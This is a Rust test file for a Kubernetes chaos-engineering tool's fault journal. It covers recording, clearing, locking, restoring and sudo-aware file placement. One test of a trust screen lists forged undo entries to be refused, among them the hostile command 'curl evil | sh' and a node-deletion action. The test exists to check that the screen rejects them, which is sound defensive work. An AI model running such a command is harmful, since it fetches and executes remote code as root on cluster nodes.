//! The fault journal's behaviour: recording, clearing, and `restore` undoing faults.

use super::*;
use crate::inventory::Inventory;

fn entry(id: &str, cluster: &str, undo: Undo) -> Entry {
    Entry {
        id: id.into(),
        cluster: cluster.into(),
        node: "n1".into(),
        fault: "kubelet-stop".into(),
        undo,
        injected_at: Utc::now(),
        deadline: None,
        armed_restore: None,
    }
}

#[test]
fn record_survives_reopen_and_clear_removes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("state/faultline/journal.json");
    let mut j = Journal::open(&path).expect("missing file is empty");
    assert!(j.active("c").is_empty());
    let a = entry("a", "c", Undo::Node(NodeOp::KubeletStart));
    j.record(a.clone()).expect("write");
    j.record(entry("b", "other", Undo::PowerOn)).expect("write");

    let reopened = Journal::open(&path).expect("read");
    assert_eq!(reopened.active("c"), vec![a]);
    assert_eq!(reopened.active("other").len(), 1);

    assert!(j.clear("a").expect("clear"));
    assert!(!j.clear("a").expect("clear twice"));
    let reopened = Journal::open(&path).expect("read");
    assert!(reopened.active("c").is_empty());
    assert_eq!(reopened.active("other").len(), 1);

    let leftovers: Vec<_> = fs::read_dir(path.parent().expect("dir"))
        .expect("ls")
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    let mut leftovers = leftovers;
    leftovers.sort();
    assert_eq!(
        leftovers,
        ["journal.json", "journal.json.lock"].map(OsString::from),
        "no temp files"
    );
}

#[test]
fn a_step_journals_and_clears_its_nodes_together() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let mut j = Journal::open(&path).expect("open");
    j.record(entry("other-run", "c", Undo::PowerOn))
        .expect("write");
    let step: Vec<Entry> = ["n1", "n2", "n3"]
        .iter()
        .map(|id| entry(id, "c", Undo::Node(NodeOp::KubeletStart)))
        .collect();
    j.record_all(step.clone()).expect("write");
    // Written again (the self-restores armed): replaced by id, not added twice.
    j.record_all(step).expect("rewrite");
    assert_eq!(Journal::open(&path).expect("read").active("c").len(), 4);
    assert_eq!(j.clear_all(&["n1", "n3", "gone"]).expect("clear"), 2);
    let ids: Vec<String> = Journal::open(&path)
        .expect("read")
        .active("c")
        .into_iter()
        .map(|e| e.id)
        .collect();
    assert_eq!(ids, vec!["other-run".to_string(), "n2".to_string()]);
}

#[test]
fn a_second_handle_does_not_lose_entries() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let mut one = Journal::open(&path).expect("open");
    let mut two = Journal::open(&path).expect("open");
    one.record(entry("a", "c", Undo::PowerOn)).expect("write");
    two.record(entry("b", "c", Undo::PowerOn)).expect("write");
    assert_eq!(Journal::open(&path).expect("read").active("c").len(), 2);
}

#[test]
fn names_are_kebab_case_and_the_old_camel_case_still_reads() {
    let written =
        serde_json::to_value(entry("a", "c", Undo::Node(NodeOp::KubeletStart))).expect("serialize");
    assert_eq!(written["fault"], "kubelet-stop");
    assert_eq!(
        written["undo"],
        serde_json::json!({"node": "kubelet-start"})
    );
    assert_eq!(
        serde_json::to_value(Undo::PowerOn).expect("serialize"),
        "power-on"
    );
    let old: Vec<Undo> =
        serde_json::from_str(r#"[{"node": "kubeletStart"}, {"node": "powerOff"}, "powerOn"]"#)
            .expect("old spelling");
    assert_eq!(
        old,
        [
            Undo::Node(NodeOp::KubeletStart),
            Undo::Node(NodeOp::PowerOff),
            Undo::PowerOn
        ]
    );
}

#[tokio::test(start_paused = true)]
async fn undo_retries_wait_one_then_two_seconds_and_stop_after_three_tries() {
    let start = tokio::time::Instant::now();
    let mut tried_at = Vec::new();
    let failing = async || {
        tried_at.push(start.elapsed());
        Err::<(), _>("still broken".to_string())
    };
    let (result, attempts) =
        undo_with_retries(&RetryPolicy::default(), "n1", "kubelet-stop", failing).await;
    assert_eq!(result, Err("still broken".to_string()));
    assert_eq!(attempts, 3);
    assert_eq!(
        tried_at,
        [0, 1, 3].map(Duration::from_secs),
        "1s then 2s between tries"
    );
}

#[test]
fn corrupt_journal_is_an_error_not_an_empty_list() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    fs::write(&path, "{not json").expect("write");
    let err = Journal::open(&path).expect_err("corrupt");
    assert!(err.to_string().contains("corrupt"), "{err}");
}

fn executor() -> Executor {
    let text =
        "cluster: {name: c}\ntransport: exec\nexec: [sh, -c, \"{command}\"]\nnodes: [{name: n1}]\n";
    Executor::new(Inventory::parse(text, Path::new("t.yaml")).expect("valid"))
}

#[tokio::test]
async fn restore_undoes_clears_and_keeps_what_failed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let flag = dir.path().join("undone");
    let mut j = Journal::open(&path).expect("open");
    let touch = format!("touch '{}'", flag.display());
    j.record(entry("ok", "c", Undo::Node(NodeOp::Run(touch))))
        .expect("w");
    j.record(entry("bad", "c", Undo::Node(NodeOp::Run("exit 7".into()))))
        .expect("w");
    j.record(entry("power", "c", Undo::PowerOn)).expect("w");
    j.record(entry(
        "elsewhere",
        "d",
        Undo::Node(NodeOp::Run("exit 1".into())),
    ))
    .expect("w");
    let policy = RetryPolicy {
        attempts: 3,
        first_delay: Duration::from_millis(10),
        timeout: Duration::from_secs(5),
    };
    let no_api = async |_: &str, _: &Action, _: Duration| -> Result<OpOutcome, &str> {
        Err("no API in this test")
    };
    let out = restore_all_with(&mut j, &executor(), "c", &policy, &|_| None, no_api).await;
    assert_eq!(out.len(), 3);
    let of = |id: &str| {
        out.iter()
            .find(|o| o.id == id)
            .expect("an outcome per entry")
    };
    assert!(of("ok").restored() && of("ok").attempts == 1);
    assert!(flag.exists());
    assert!(!of("bad").restored());
    assert_eq!(of("bad").attempts, 3);
    assert!(
        of("power")
            .error
            .as_deref()
            .unwrap_or("")
            .contains("never on: configure power.on")
    );
    let left: Vec<String> = Journal::open(&path)
        .expect("read")
        .active("c")
        .into_iter()
        .map(|e| e.id)
        .collect();
    assert_eq!(left, ["bad", "power"]);
    assert_eq!(j.active("d").len(), 1, "other clusters untouched");
}

fn at(id: &str, secs: i64, undo: Undo) -> Entry {
    Entry {
        injected_at: DateTime::<Utc>::from_timestamp(1_700_000_000 + secs, 0).expect("time"),
        ..entry(id, "c", undo)
    }
}

#[test]
fn concurrent_writers_lose_no_entries() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let threads: Vec<_> = (0..8)
        .map(|t| {
            let path = path.clone();
            std::thread::spawn(move || {
                let mut j = Journal::open(&path).expect("open");
                for i in 0..12 {
                    j.record_all(vec![
                        entry(&format!("keep-{t}-{i}"), "c", Undo::PowerOn),
                        entry(&format!("drop-{t}-{i}"), "c", Undo::PowerOn),
                    ])
                    .expect("record");
                    let gone = format!("drop-{t}-{i}");
                    assert_eq!(j.clear_all(&[gone.as_str()]).expect("clear"), 1);
                }
            })
        })
        .collect();
    for t in threads {
        t.join().expect("writer thread");
    }
    let mut ids: Vec<String> = Journal::open(&path)
        .expect("read")
        .active("c")
        .into_iter()
        .map(|e| e.id)
        .collect();
    ids.sort();
    let mut want: Vec<String> = (0..8)
        .flat_map(|t| (0..12).map(move |i| format!("keep-{t}-{i}")))
        .collect();
    want.sort();
    assert_eq!(
        ids, want,
        "every writer's entries survive, no cleared one comes back"
    );
}

#[test]
fn a_writer_waits_for_the_lock_beside_the_journal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let lock = File::create(dir.path().join("journal.json.lock")).expect("lock file");
    lock.lock().expect("hold the lock");
    let (tx, rx) = std::sync::mpsc::channel();
    let writer = {
        let path = path.clone();
        std::thread::spawn(move || {
            let mut j = Journal::open(&path).expect("open");
            j.record(entry("a", "c", Undo::PowerOn)).expect("record");
            tx.send(()).expect("send");
        })
    };
    assert!(
        rx.recv_timeout(Duration::from_millis(300)).is_err(),
        "record went ahead while another process held the journal's lock"
    );
    lock.unlock().expect("unlock");
    rx.recv_timeout(Duration::from_secs(5))
        .expect("record goes ahead once the lock is free");
    writer.join().expect("writer");
    assert_eq!(Journal::open(&path).expect("read").active("c").len(), 1);
}

fn quick() -> RetryPolicy {
    RetryPolicy {
        attempts: 1,
        first_delay: Duration::from_millis(10),
        timeout: Duration::from_secs(5),
    }
}

async fn no_api(_: &str, _: &Action, _: Duration) -> Result<OpOutcome, &'static str> {
    Err("no API in this test")
}

#[tokio::test]
async fn restore_undoes_a_nodes_faults_newest_first() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let log = dir.path().join("log");
    let say = |word: &str| Undo::Node(NodeOp::Run(format!("echo {word} >> '{}'", log.display())));
    let mut j = Journal::open(&path).expect("open");
    // kubelet stopped first, then the node powered off: written in that order.
    j.record(at("kubelet", 0, say("kubelet-start"))).expect("w");
    j.record(at("power", 10, say("power-on"))).expect("w");
    let out = restore_all_with(&mut j, &executor(), "c", &quick(), &|_| None, no_api).await;
    assert!(out.iter().all(RestoreOutcome::restored), "{out:?}");
    assert_eq!(
        fs::read_to_string(&log).expect("log"),
        "power-on\nkubelet-start\n",
        "the node is powered on before its kubelet is started"
    );
}

fn alive(armed: &ArmedRestore) -> bool {
    let pid = armed.pid.expect("default arm prints its pid");
    fs::read(format!("/proc/{pid}/cmdline"))
        .map(|c| String::from_utf8_lossy(&c).contains(&armed.token))
        .unwrap_or(false)
}

/// Whether `cond` holds within 20 seconds (a process takes a moment to start or die,
/// longer on a loaded machine; a poll, so a fast machine loses nothing).
fn settles(cond: impl Fn() -> bool) -> bool {
    let until = std::time::Instant::now() + Duration::from_secs(20);
    while !cond() {
        if std::time::Instant::now() > until {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    true
}

#[tokio::test]
async fn restore_disarms_only_what_it_undid() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let ex = executor();
    let later = Duration::from_secs(120);
    let fired = dir.path().join("fired");
    let touch = NodeOp::Run(format!("touch '{}'", fired.display()));
    let stuck = ex
        .arm_restore("n1", &touch, later, "stuck")
        .await
        .expect("arm");
    let fine = ex
        .arm_restore("n1", &touch, later, "fine")
        .await
        .expect("arm");
    assert!(settles(|| alive(&stuck) && alive(&fine)), "armed");
    let mut j = Journal::open(&path).expect("open");
    j.record(Entry {
        armed_restore: Some(stuck.clone()),
        ..at("stuck", 0, Undo::Node(NodeOp::Run("exit 7".into())))
    })
    .expect("w");
    j.record(Entry {
        armed_restore: Some(fine.clone()),
        ..at("fine", 1, Undo::Node(NodeOp::Run("true".into())))
    })
    .expect("w");
    let out = restore_all_with(&mut j, &ex, "c", &quick(), &|_| None, no_api).await;
    let stuck_alive = alive(&stuck);
    let _ = ex.disarm("n1", &stuck).await;
    assert_eq!(out.len(), 2);
    assert!(
        stuck_alive,
        "a fault whose undo failed keeps its self-restore armed on the node"
    );
    assert!(
        settles(|| !alive(&fine)),
        "an undone fault's self-restore is disarmed"
    );
    let left = Journal::open(&path).expect("read").active("c");
    assert_eq!(left.len(), 1);
    assert_eq!(left[0].id, "stuck");
    assert_eq!(left[0].armed_restore.as_ref(), Some(&stuck));
    assert!(!fired.exists());
}

fn env(euid: u32, home: &str, sudo: Option<(&str, &str, &str)>) -> StateEnv {
    StateEnv {
        xdg_state_home: None,
        home: Some(home.into()),
        sudo_user: sudo.map(|s| s.0.to_string()),
        sudo_uid: sudo.map(|s| s.1.to_string()),
        sudo_gid: sudo.map(|s| s.2.to_string()),
        euid,
    }
}

fn passwd(user: &str) -> Option<PathBuf> {
    (user == "alice").then(|| PathBuf::from("/srv/people/alice"))
}

#[test]
fn the_journal_is_in_the_same_place_with_and_without_sudo() {
    let plain = journal_location(&env(1000, "/srv/people/alice", None), &passwd).expect("path");
    assert_eq!(
        plain.path,
        Path::new("/srv/people/alice/.local/state/faultline/journal.json")
    );
    assert_eq!(plain.owner, None);
    // `sudo faultline …`: HOME is root's, the invoking user is in SUDO_*.
    let sudo =
        journal_location(&env(0, "/root", Some(("alice", "1000", "1001"))), &passwd).expect("path");
    assert_eq!(sudo.path, plain.path, "sudo finds the user's journal");
    assert_eq!(
        sudo.owner,
        Some((1000, 1001)),
        "files made as root go to alice"
    );
    assert_eq!(sudo.sudo_user.as_deref(), Some("alice"));
    // XDG_STATE_HOME kept through sudo (-E) is the user's.
    let kept = journal_location(
        &StateEnv {
            xdg_state_home: Some("/srv/state".into()),
            ..env(0, "/root", Some(("alice", "1000", "1001")))
        },
        &passwd,
    )
    .expect("path");
    assert_eq!(kept.path, Path::new("/srv/state/faultline/journal.json"));
    // root itself (no sudo, or `sudo` from a root shell) keeps root's journal.
    for e in [
        env(0, "/root", None),
        env(0, "/root", Some(("root", "0", "0"))),
    ] {
        let root = journal_location(&e, &passwd).expect("path");
        assert_eq!(
            root.path,
            Path::new("/root/.local/state/faultline/journal.json")
        );
        assert_eq!(root.owner, None);
    }
    // `sudo -u bob`: the process is bob, HOME is bob's.
    let bob = journal_location(
        &env(1002, "/home/bob", Some(("alice", "1000", "1001"))),
        &passwd,
    )
    .expect("path");
    assert_eq!(
        bob.path,
        Path::new("/home/bob/.local/state/faultline/journal.json")
    );
    // A sudo user with no passwd entry is an error, not root's journal in silence.
    let err = journal_location(&env(0, "/root", Some(("ghost", "1003", "1003"))), &passwd)
        .expect_err("unknown user");
    assert!(err.to_string().contains("ghost"), "{err}");
}

#[test]
fn files_made_for_the_sudo_user_belong_to_them() {
    if effective_uid() != 0 {
        println!("SKIP: chown needs root");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("home/.local/state/faultline/journal.json");
    let mut j = Journal::open_as(&path, Some((12345, 12346))).expect("open");
    let state = path.parent().expect("dir");
    let owned = |p: &Path| {
        use std::os::unix::fs::MetadataExt;
        fs::metadata(p).map(|m| (m.uid(), m.gid())).ok()
    };
    assert_eq!(
        owned(state),
        Some((12345, 12346)),
        "the directory is the user's from the start, before a snapshot is written there"
    );
    j.record(entry("a", "c", Undo::PowerOn)).expect("w");
    use std::os::unix::fs::MetadataExt;
    for p in [
        dir.path().join("home"),
        dir.path().join("home/.local"),
        dir.path().join("home/.local/state"),
        dir.path().join("home/.local/state/faultline"),
        path.clone(),
        dir.path()
            .join("home/.local/state/faultline/journal.json.lock"),
    ] {
        let m = fs::metadata(&p).expect("exists");
        assert_eq!((m.uid(), m.gid()), (12345, 12346), "{}", p.display());
    }
    let m = fs::metadata(dir.path()).expect("exists");
    assert_eq!(m.uid(), 0, "what existed before is left alone");
}

#[tokio::test]
async fn a_reboot_cut_off_out_of_band_is_journaled_with_power_on_as_its_undo() {
    let dir = tempfile::tempdir().expect("tempdir");
    let off = dir.path().join("off");
    // A container node: reboot = stop, pause, start; the run is killed in the pause.
    let text = format!(
        "cluster: {{name: c}}\ntransport: exec\nexec: [sh, -c, \"{{command}}\"]\nnodes:\n\
         - name: kind\n  power:\n    on: [rm, -f, '{off}']\n    \
         reboot: [sh, -c, 'touch \"$0\"; sleep 30; rm -f \"$0\"', '{off}']\n\
         - {{name: metal, power: {{on: [\"true\"]}}}}\n- {{name: vm}}\n",
        off = off.display()
    );
    let ex = Executor::new(Inventory::parse(&text, Path::new("t.yaml")).expect("valid"));
    assert_eq!(reboot_undo(&ex, "kind"), Some(Undo::PowerOn));
    assert_eq!(
        reboot_undo(&ex, "metal"),
        None,
        "in-band reboot: no power.reboot"
    );
    assert_eq!(reboot_undo(&ex, "vm"), None, "nothing can power it on");
    assert_eq!(reboot_undo(&ex, "nowhere"), None);

    let path = dir.path().join("journal.json");
    let mut j = Journal::open(&path).expect("open");
    j.record(Entry {
        node: "kind".into(),
        fault: "reboot".into(),
        ..entry("r", "c", reboot_undo(&ex, "kind").expect("undo"))
    })
    .expect("journaled before the reboot");
    let cut = ex
        // Cut long before its `sleep 30` ends, late enough for `touch` on a loaded machine.
        .power("kind", PowerAction::Reboot, Duration::from_secs(5))
        .await;
    assert!(cut.is_err(), "the reboot was cut off: {cut:?}");
    assert!(off.exists(), "stopped, never started again");
    let out = restore_all_with(&mut j, &ex, "c", &quick(), &|_| None, no_api).await;
    assert!(out.iter().all(RestoreOutcome::restored), "{out:?}");
    assert!(!off.exists(), "restore powered it on");
    assert!(j.active("c").is_empty());
}

#[tokio::test]
async fn restore_undoes_a_fault_as_the_run_that_made_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = dir.path().join("log");
    let text = format!(
        "cluster: {{name: c}}\ntransport: exec\nexec: [sh, -c, \"{{command}}\"]\n\
         commands: {{heal: \"echo healed {{run}} >> '{}'\"}}\nnodes: [{{name: n1}}]\n",
        log.display()
    );
    let ex = Executor::new(Inventory::parse(&text, Path::new("t.yaml")).expect("valid"));
    let mut j = Journal::open(dir.path().join("journal.json")).expect("open");
    j.record(entry("fl20261129-4", "c", Undo::Node(NodeOp::Heal)))
        .expect("w");
    let out = restore_all_with(&mut j, &ex, "c", &quick(), &|_| None, no_api).await;
    assert!(out.iter().all(RestoreOutcome::restored), "{out:?}");
    assert_eq!(
        fs::read_to_string(&log).expect("log"),
        "healed fl20261129\n",
        "the heal names the run of the journaled partition"
    );
}

/// Issue 69, item 4: `restore` carried out any undo a journal held (`Undo::Node(Run)` of
/// any text as root on the node, any API action), though a run only ever journals a
/// fault's inverse. Now an entry is screened against the fault table first.
#[test]
fn only_undos_a_run_writes_are_trusted() {
    use super::trust::{Commands, Untrusted, check};
    let any = Commands::Any;
    let none = Commands::Declared(Default::default());
    let with = |fault: &str, undo: Undo| Entry {
        fault: fault.into(),
        ..entry("x", "c", undo)
    };
    let taint = crate::experiment::model::TaintSpec {
        key: "k".into(),
        value: None,
        effect: "NoExecute".into(),
    };
    for (fault, undo) in [
        ("kubelet-stop", Undo::Node(NodeOp::KubeletStart)),
        ("partition", Undo::Node(NodeOp::Heal)),
        ("power-off", Undo::PowerOn),
        ("shutdown", Undo::PowerOn),
        ("reboot", Undo::PowerOn),
        ("cordon", Undo::Api(Action::Uncordon)),
        ("drain", Undo::Api(Action::Uncordon)),
        ("taint", Undo::Api(Action::Untaint(taint.clone()))),
        // Written before the kebab-case spelling, read as the same.
        (
            "kubelet-stop",
            serde_json::from_str(r#"{"node":"kubeletStart"}"#).expect("old"),
        ),
    ] {
        assert_eq!(
            check(&with(fault, undo.clone()), &none),
            Ok(()),
            "{fault} {undo:?}"
        );
    }
    let refused = [
        (
            "kubelet-stop",
            Undo::Node(NodeOp::Run("curl evil | sh".into())),
        ),
        ("kubelet-stop", Undo::PowerOn),
        ("cordon", Undo::Api(Action::DeleteNode)),
        ("drain", Undo::Api(Action::Untaint(taint))),
        ("delete-node", Undo::Api(Action::Uncordon)),
        ("reboot", Undo::Node(NodeOp::Reboot)),
        ("kubelet-start", Undo::Node(NodeOp::KubeletStop)),
    ];
    for (fault, undo) in refused {
        assert!(
            matches!(
                check(&with(fault, undo.clone()), &any),
                Err(Untrusted::NotItsUndo { .. })
            ),
            "{fault} {undo:?}"
        );
    }
    assert_eq!(
        check(&with("mine-now", Undo::PowerOn), &any),
        Err(Untrusted::UnknownFault("mine-now".into()))
    );
    // A run step's own undo command: from a private journal, or declared.
    let run = with("run", Undo::Node(NodeOp::Run("systemctl start app".into())));
    assert_eq!(check(&run, &any), Ok(()));
    assert!(matches!(
        check(&run, &none),
        Err(Untrusted::UndeclaredCommand { .. })
    ));
    let declared = Commands::Declared(["systemctl start app".to_string()].into());
    assert_eq!(check(&run, &declared), Ok(()));
}

/// What the screen refuses is reported, not carried out, and stays in the journal.
#[tokio::test]
async fn a_refused_entry_is_not_carried_out_and_stays() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let flag = dir.path().join("ran");
    let mut j = Journal::open(&path).expect("open");
    let forged = Entry {
        fault: "kubelet-stop".into(),
        ..entry(
            "forged",
            "c",
            Undo::Node(NodeOp::Run(format!("touch '{}'", flag.display()))),
        )
    };
    j.record(forged).expect("w");
    let commands = super::trust::Commands::Any;
    let screen = |e: &Entry| {
        super::trust::check(e, &commands)
            .err()
            .map(|u| u.to_string())
    };
    let out = restore_all_with(&mut j, &executor(), "c", &quick(), &screen, no_api).await;
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].attempts, 0);
    assert!(
        out[0]
            .error
            .as_deref()
            .unwrap_or("")
            .starts_with("refused:"),
        "{:?}",
        out[0].error
    );
    assert!(!flag.exists(), "the forged undo was not run");
    assert_eq!(Journal::open(&path).expect("read").active("c").len(), 1);
}

/// A live run's claim tells `restore` its entries are not a dead run's: held while the
/// claim lives, gone with it, and a claim file whose process died counts for nothing.
#[test]
fn a_run_claims_its_entries_while_it_lives() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    let j = Journal::open(&path).expect("open");
    assert!(!j.run_alive("fl1"));
    let claim = j.claim_run("fl1").expect("claim");
    assert!(j.run_alive("fl1"));
    assert!(!j.run_alive("fl2"));
    assert!(j.claim_run("fl1").is_err(), "one claim per run");
    drop(claim);
    assert!(!j.run_alive("fl1"));
    // A process that died left its file, unlocked.
    let left = dir.path().join("journal.json.run-fl3.lock");
    std::fs::write(&left, "").expect("write");
    assert!(!j.run_alive("fl3"));
    assert!(!left.exists(), "removed once found dead");
}

#[test]
fn a_journal_on_a_volume_others_can_write_is_not_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("journal.json");
    std::fs::write(&path, "{}").expect("write");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    assert!(super::trust::private_to_this_user(&path));
    // A shared volume (fsGroup makes it group-writable).
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o2775)).expect("chmod");
    assert!(!super::trust::private_to_this_user(&path));
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    assert!(!super::trust::private_to_this_user(&path));
}
